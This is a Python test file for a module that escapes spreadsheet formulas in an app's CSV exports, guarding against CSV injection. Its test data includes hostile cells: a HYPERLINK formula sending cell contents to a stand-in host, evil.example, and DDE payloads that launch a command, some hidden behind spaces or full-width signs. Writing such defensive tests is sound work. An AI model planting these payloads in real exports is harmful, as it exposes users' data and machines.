"""CSV cells a spreadsheet never runs as formulas (issue #13 item 14, OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from app.core import csv_safe

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
           "-1e5", "+91 98450 12345"]


def written(rows) -> str:
    out = io.StringIO()
    csv_safe.writer(out).writerows(rows)
    return out.getvalue()


def test_formula_cells_are_written_as_text():
    for value in HOSTILE:
        (row,) = csv.reader(io.StringIO(written([[value]]), newline=""))
        assert row == ["'" + value], value


def test_formula_cells_behind_spaces_or_in_full_width_are_written_as_text():
    """A spreadsheet that trims spaces on import (LibreOffice's "Trim spaces") runs
    " =1+1"; "＝" is the full-width "=". Before: all of these were written as they are."""
    for value in [" =1+1", "  @SUM(1+1)", "\n=HYPERLINK(\"http://evil.example\")",
                  "\u00a0=1+1", "\u3000+1+1", "＝1+1", "＋cmd|' /C calc'!A0", " -2+3"]:
        (row,) = csv.reader(io.StringIO(written([[value]]), newline=""))
        assert row == ["'" + value], value
        assert csv_safe.unescape(row[0]) == value
    assert written([[" -5 ", " 12"]]) == " -5 , 12\r\n"  # plain numbers stay numbers


def test_plain_numbers_stay_numbers():
    assert written([["-5", "+3", "-12.50", -7, 0, "12", None]]) == "-5,+3,-12.50,-7,0,12,\r\n"


def test_ordinary_text_is_unchanged():
    assert written([["Tata Salt 1 kg", "Atta, Rice & Dals", "D2-4711"]]) == (
        'Tata Salt 1 kg,"Atta, Rice & Dals",D2-4711\r\n')


def test_a_leading_quote_is_doubled_so_the_escape_can_be_undone():
    assert csv_safe.cell("'=1") == "''=1" and csv_safe.unescape("''=1") == "'=1"
    assert csv_safe.cell("'Tis") == "''Tis" and csv_safe.unescape("''Tis") == "'Tis"
    assert csv_safe.unescape("'plain") == "'plain"  # typed by a person: not an escape


@given(st.text())
def test_unescape_undoes_cell(value):
    assert csv_safe.unescape(csv_safe.cell(value)) == value


@given(st.text())
def test_no_written_cell_starts_a_formula(value):
    (row,) = csv.reader(io.StringIO(written([[value]]), newline=""))
    assert row[0] == csv_safe.cell(value)
    if row[0].lstrip().startswith(csv_safe.FORMULA_START):
        float(row[0])  # only a plain number may start with a sign


def test_every_csv_writer_in_the_program_is_the_safe_one():
    """One rule in one place: no export may write CSV around csv_safe."""
    from pathlib import Path

    app = Path(__file__).resolve().parents[2] / "app"
    raw = [str(p.relative_to(app)) for p in app.rglob("*.py")
           if p.name != "csv_safe.py" and any(
               s in p.read_text(encoding="utf-8") for s in ("csv.writer(", "csv.DictWriter("))]
    assert raw == []
